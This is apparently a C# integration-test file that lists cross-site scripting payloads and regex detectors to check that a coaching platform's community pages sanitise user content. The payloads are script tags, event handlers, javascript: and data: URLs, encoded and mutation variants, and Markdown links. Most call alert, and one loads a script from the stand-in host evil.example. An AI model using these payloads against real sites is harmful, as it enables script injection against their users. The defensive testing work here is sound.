using System.Text.RegularExpressions;

namespace CoachingPlatform.IntegrationTests.Community;

/// <summary>
/// Payloads that try to run a script: script tags, event handlers, <c>javascript:</c> and <c>data:</c> URLs,
/// SVG and MathML, encoded and mixed-case variants, attribute and tag break-outs, Markdown links. Each one
/// calls <c>alert</c>, so a browser test notices any that runs.
/// </summary>
public static partial class XssCorpus
{
    public static readonly IReadOnlyList<string> Payloads =
    [
        "<script>alert('xss-1')</script>",
        "<ScRiPt>alert('xss-2')</sCrIpT>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<img src=x onerror=alert('xss-4')>",
        "<IMG SRC=x OnErRoR=alert('xss-5')>",
        "<svg onload=alert('xss-6')></svg>",
        "<svg><script>alert('xss-7')</script></svg>",
        "<a href=\"javascript:alert('xss-8')\">click me</a>",
        "<a href=\"JaVaScRiPt:alert('xss-9')\">click me</a>",
        "<a href=\"&#106;&#97;vascript:alert('xss-10')\">encoded</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTExJyk8L3NjcmlwdD4=\">data url</a>",
        "<iframe src=\"javascript:alert('xss-12')\"></iframe>",
        "\"><script>alert('xss-13')</script>",
        "'><img src=x onerror=alert('xss-14')>",
        "<details open ontoggle=alert('xss-15')>",
        "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert('xss-16')></style>",
        "[click me](javascript:alert('xss-17'))",
        "![x](x\" onerror=\"alert('xss-18'))",
        "&lt;script&gt;alert('xss-19')&lt;/script&gt;",
        "%3Cscript%3Ealert('xss-20')%3C/script%3E",
        "<body onload=alert('xss-21')>",
        "<input autofocus onfocus=alert('xss-22')>",
    ];

    /// <summary>
    /// What must never be in a page built from those payloads: a script element other than the app's own
    /// files, an event-handler attribute, or a script or data URL in a link or source (inside a tag: escaped text may
    /// read like one and is harmless).
    /// </summary>
    public static IReadOnlyList<string> DangerIn(string html) =>
        ScriptTag().Matches(html).Select(m => m.Value).Where(tag => !OwnScript().IsMatch(tag))
            .Concat(HandlerAttribute().Matches(html).Select(m => m.Value))
            .Concat(ScriptUrl().Matches(html).Select(m => m.Value))
            .ToList();

    [GeneratedRegex("<script[^>]*>", RegexOptions.IgnoreCase)]
    private static partial Regex ScriptTag();

    [GeneratedRegex("^<script src=\"/js/[a-z-]+\\.js(\\?v=[^\"]+)?\"( defer)?>$")]
    private static partial Regex OwnScript();

    [GeneratedRegex("<[a-z][^>]*\\son[a-z]+\\s*=", RegexOptions.IgnoreCase)]
    private static partial Regex HandlerAttribute();

    [GeneratedRegex("<[a-z][^<>]*\\s(?:href|src|action|formaction)\\s*=\\s*[\"']?\\s*(?:javascript|data|vbscript):", RegexOptions.IgnoreCase)]
    private static partial Regex ScriptUrl();
}
